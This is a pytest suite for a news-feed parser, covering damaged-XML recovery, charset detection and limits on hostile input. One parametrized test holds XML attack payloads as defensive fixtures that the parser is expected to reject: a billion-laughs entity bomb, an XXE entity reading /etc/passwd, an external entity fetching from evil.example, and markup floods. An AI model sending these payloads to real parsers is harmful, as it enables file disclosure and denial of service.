from contextlib import suppress

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schemas.codes import Code
from schemas.outcomes import Reject
from tasks.parse_feed.charset import CODECS, decode
from tasks.parse_feed.entries import entries_of
from tasks.parse_feed.people import shorten_people
from tasks.parse_feed.stage import read_feed

ITEM = "<item><title>One</title><link>https://news.example/1</link><description>Words</description></item>"
TWO = ITEM + ITEM.replace("One", "Two").replace("/1", "/2")


class Store:
    def put(self, data):
        return str(len(data))


def rss(items=TWO, head='<rss version="2.0">'):
    return f'<?xml version="1.0"?>{head}<channel><title>T</title>{items}</channel></rss>'


def titles(parsed):
    return [entry.hints.title for entry in parsed.entries]


@pytest.mark.parametrize(
    ("feed", "expected"),
    [
        (rss(TWO.replace("One", "Black & white")), ["Black & white", "Two"]),
        (rss(TWO.replace("One", "Caf&eacute;&nbsp;au lait")), ["Café au lait", "Two"]),
        (rss(TWO.replace("/1", "/1?a=1&b=2")), ["One", "Two"]),
        (rss(TWO.replace("One", "O&#x1F;n&#xD800;e&#99999999;")), ["O\ufffdn\ufffde\ufffd", "Two"]),
        (rss(TWO.replace("Words", "<br>a<p>b")), ["One", "Two"]),
        (rss(ITEM.replace("Words", '</description><media:thumbnail url="x"/><description>')), ["One"]),
        (rss(TWO) + "trailing <b> garbage", ["One", "Two"]),
        (rss(TWO).replace("</channel></rss>", ""), ["One", "Two"]),
        (rss(TWO)[:-120], ["One"]),
    ],
)
def test_damage_is_mended_and_said(parse, feed, expected):
    parsed = parse(feed)
    assert titles(parsed) == expected
    assert parsed.degraded


@pytest.mark.parametrize("lead", ["\ufeff", "\n\n  ", "PHP Warning: x\n", "\0", "<!-- c -->\n"])
def test_junk_before_the_feed_is_passed_over(parse, lead):
    assert titles(parse(lead + rss())) == ["One", "Two"]


def test_characters_that_xml_forbids_are_dropped(parse):
    assert titles(parse(rss(ITEM.replace("One", "O\x00\x0b\x1fn\ufffee")))) == ["One"]


def test_an_item_cut_in_its_link_is_not_read(parse):
    feed = rss(TWO)
    parsed = parse(feed[: feed.rindex("/2") + 1])
    assert [entry.url for entry in parsed.entries] == ["https://news.example/1"]


def test_a_feed_too_broken_for_any_item_is_broken_xml(parse):
    with pytest.raises(Reject) as refused:
        parse('<rss version="2.0"><channel><title>T</ti')
    assert refused.value.code is Code.BROKEN_XML


def test_ampersands_in_cdata_stay_what_they_are(parse, store):
    (first, *_) = parse(rss(TWO.replace("Words", "<![CDATA[<p>a & b &nbsp; c</p>]]>").replace("One", "A & B"))).entries
    assert store[first.summary_key] == b"<p>a & b &nbsp; c</p>"


LAUGHS = """<?xml version="1.0"?>{lead}<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>
<rss version="2.0"><channel><item><title>&lol2;</title></item></channel></rss>"""


@pytest.mark.parametrize(
    "feed",
    [
        LAUGHS.format(lead=""),
        LAUGHS.format(lead="<!-- <a> -->"),
        LAUGHS.format(lead="<?a <b> ?>"),
        LAUGHS.format(lead="")[:-10],
        LAUGHS.format(lead="").replace("[<!ENTITY lol", "[<!-- ]> --><!ENTITY lol"),
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel/></rss>',
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><rss version="2.0"><channel/></rss>',
        rss("<a>" * 300 + "</a>" * 300),
        rss("<item " + " ".join(f'a{n}="1"' for n in range(600)) + "/>"),
        rss("<b/>" * 300_001),
        rss("<item><title>" + "a&amp;" * 760_000 + "</title></item>"),
        rss(head="<rss " + " ".join(f'xmlns:n{n}="u"' for n in range(20_001)) + ">"),
        rss(("<item><author><![CDATA[</author]]>" + "a." * 2000 + "</author></item>") * 60),
    ],
)
def test_what_no_feed_needs_is_forbidden(parse, feed):
    with pytest.raises(Reject) as refused:
        parse(feed)
    assert refused.value.code is Code.FORBIDDEN_XML


def test_a_document_type_without_entities_is_harmless(parse):
    old = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://example.com/rss-0.91.dtd">'
    assert titles(parse(rss().replace('"1.0"?>', '"1.0"?>' + old))) == ["One", "Two"]


def test_an_article_about_entities_is_read(parse):
    text = "<![CDATA[Write <!ENTITY lol 'lol'> in the DTD]]>"
    assert titles(parse(rss(TWO.replace("Words", text)))) == ["One", "Two"]


def test_more_items_than_are_ever_read_are_cut_off(parse):
    many = "".join(f"<item><title>{n}</title><link>/{n}</link></item>" for n in range(5_200))
    parsed = parse(rss(many))
    assert len(parsed.entries) == 1000
    assert parsed.degraded == "recovered: more than 5000 items"


@pytest.mark.parametrize(
    "flood",
    [
        "<!--",
        "<",
        "<a ",
        "<a",
        "&",
        "&a",
        "<![CDATA[",
        "<!DOCTYPE ",
        "<?",
        "<author>",
        "<author",
        "a:b ",
        "]]>",
        "<!ENTITY",
        "<b:c d:e='",
    ],
)
def test_no_flood_of_markup_costs_more_than_its_length(parse, flood):
    for feed in (rss(flood * 20_000), flood * 20_000 + rss(), rss(TWO) + flood * 20_000):
        with suppress(Reject):
            parse(feed)


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(data=st.data())
def test_no_damage_at_all_gets_out_as_anything_but_an_outcome(data):
    feed = bytearray(rss(TWO).encode())
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(feed)))
        gone = data.draw(st.integers(0, 30))
        feed[at : at + gone] = data.draw(st.sampled_from(SCRAPS) | st.binary(max_size=8))
    with suppress(Reject):
        read = read_feed(
            bytes(feed), data.draw(st.sampled_from(["", "text/xml; charset=utf-16"])), "https://news.example/"
        )
        msgspec.json.encode(list(entries_of(read, "f", Store())))


SCRAPS = [
    *(
        b"<![CDATA[",
        b"]]>",
        b"<!--",
        b"-->",
        b"&",
        b"&nbsp;",
        b"&#xD800;",
        b"\xed\xa0\x80",
        b"\0",
        b"<author>",
        b"{",
        b"[",
    ),
    *(
        b"</item>",
        b"<item>",
        b'xml:base="http://["',
        b"<link>http://[</link>",
        b"<pubDate>99 Foo 99999</pubDate>",
        b"<links>",
    ),
    *(b"<ttl>9999999</ttl>", b'<content type="application/octet-stream" mode="base64">', b'<guid isPermaLink="true">'),
    *(b"<!DOCTYPE x [", b'<enclosure url="http://[" type="image/x"/>', b"<dc:date>0000-00-00</dc:date>"),
]


def test_a_long_author_is_cut_to_a_name(parse):
    parsed = parse(rss(ITEM.replace("<link>", "<author>a@" + "a." * 30_000 + "</author><link>")))
    assert titles(parsed) == ["One"]
    assert len(parsed.entries[0].hints.byline[0]) <= 200


def test_authors_with_parts_keep_them():
    person = "<author>\n" + " " * 400 + "<name>Ada</name><uri>https://a.example/</uri></author>"
    assert shorten_people(person) == person
    assert shorten_people("<dc:creator>Ada</dc:creator><author/>x") == "<dc:creator>Ada</dc:creator><author/>x"


# Charsets

KOREAN = "이시바 총리와 이재명 대통령"
RUSSIAN = "Встреча министров"


@pytest.mark.parametrize(
    ("text", "codec", "declared", "transport"),
    [
        (KOREAN, "utf-8", "utf-8", None),
        (KOREAN, "utf-8", "iso-8859-1", "us-ascii"),
        (KOREAN, "euc-kr", "EUC-KR", None),
        (KOREAN, "cp949", "utf-8", "ks_c_5601-1987"),
        (RUSSIAN, "cp1251", "windows-1251", None),
        (RUSSIAN, "koi8-r", "windows-1251", "KOI8-R"),
        ("東京の会談", "iso2022_jp", "ISO-2022-JP", None),
        ("東京の会談", "cp932", "Shift_JIS", None),
        ("东京会谈", "gb18030", "gb2312", None),
        ("東京會談", "big5", "big5", None),
        ("café “quoted”", "cp1252", "iso-8859-1", None),
        ("café", "cp1252", "utf-8", None),
        ("café", "utf-16", "utf-16", None),
        ("café", "utf-16-le", "utf-8", None),
        ("café", "utf-16-be", "utf-16", None),
        ("café", "utf-32", "x", None),
        ("café", "utf-8-sig", "latin1", "latin1"),
    ],
)
def test_the_charset_is_found(parse, text, codec, declared, transport):
    feed = f'<?xml version="1.0" encoding="{declared}"?>{rss(ITEM.replace("One", text))[21:]}'
    content_type = "text/xml" + (f"; charset={transport}" if transport else "")
    assert titles(parse(feed.encode(codec), content_type)) == [text]


@pytest.mark.parametrize(
    "label", ["punycode", "undefined", "zlib", "idna", "unicode_escape", "rot13", "utf-7", "hex", "base64", "x" * 500]
)
def test_a_python_codec_is_no_charset(parse, label):
    assert label not in CODECS
    feed = f'<?xml version="1.0" encoding="{label}"?>{rss()[21:]}'
    assert titles(parse(feed, f"text/xml; charset={label}")) == ["One", "Two"]


def test_a_few_bad_bytes_do_not_cost_the_rest():
    text, flaw = decode(KOREAN.encode() + b"\xff\xfe\xfd" + KOREAN.encode(), None)
    assert text.startswith(KOREAN)
    assert text.endswith(KOREAN)
    assert flaw is not None
    assert "\ufffd" in text


def test_every_label_leads_to_a_real_charset():
    assert {bytes(text, codec).decode(codec) for codec in set(CODECS.values()) for text in ["a<b>"]} == {"a<b>"}
